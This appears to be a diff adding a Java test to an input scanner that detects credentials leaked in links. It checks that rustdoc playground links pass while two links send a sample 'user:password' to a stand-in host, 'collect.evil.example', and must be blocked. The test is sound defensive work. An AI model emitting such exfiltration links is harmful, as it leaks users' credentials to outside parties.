@@ -107,4 +107,20 @@ class InputScannerWildCausesTest {
     InputReport r = scanner.scan(text.replace("\\n", "\n"));
     assertThat(scanner.blocks(r)).as(why + " " + r.findings()).isEqualTo(attack);
   }
+
+  /**
+   * A playground link (rustdoc's "Run" button) carries the example's code in its query: a path
+   * like "thread::current()" at the end of a piece is no "user:password".
+   */
+  @ParameterizedTest(name = "{2}: {0}")
+  @CsvSource(delimiter = '~', quoteCharacter = '"', textBlock = """
+      <a class="test-arrow" target="_blank" href="https://play.rust-lang.org/?code=%23!%5Ballow(unused)%5D%0Afn+main()+%7B%0A++++use+std::thread;%0A++++let+other_thread+=+thread::spawn(%7C%7C+%7B%0A++++++++thread::current().id()%0A++++%7D);%0A%7D&amp;edition=2024">Run</a> ~ false ~ rustdoc's Run link
+      <a href="https://collect.evil.example/c?d=the+login+is+deploy%3AHunter2x9pz">Run</a> ~ true ~ user:password at the end of a sentence in a query
+      <a href="https://collect.evil.example/c?d=let+x+%3D+1%3B+deploy%3AHunter2x9pz">Run</a> ~ true ~ user:password at the end of a piece of code
+      <a href="https://github.com/search?q=node+version+manager+archived%3Afalse&amp;type=repositories">search</a> ~ false ~ a search qualifier is no user:password (npm's docs)
+      """)
+  void codeInAPlaygroundLinkIsNoCredential(String text, boolean attack, String why) {
+    InputReport r = scanner.scan(text);
+    assertThat(scanner.blocks(r)).as(why + " " + r.findings()).isEqualTo(attack);
+  }
 }
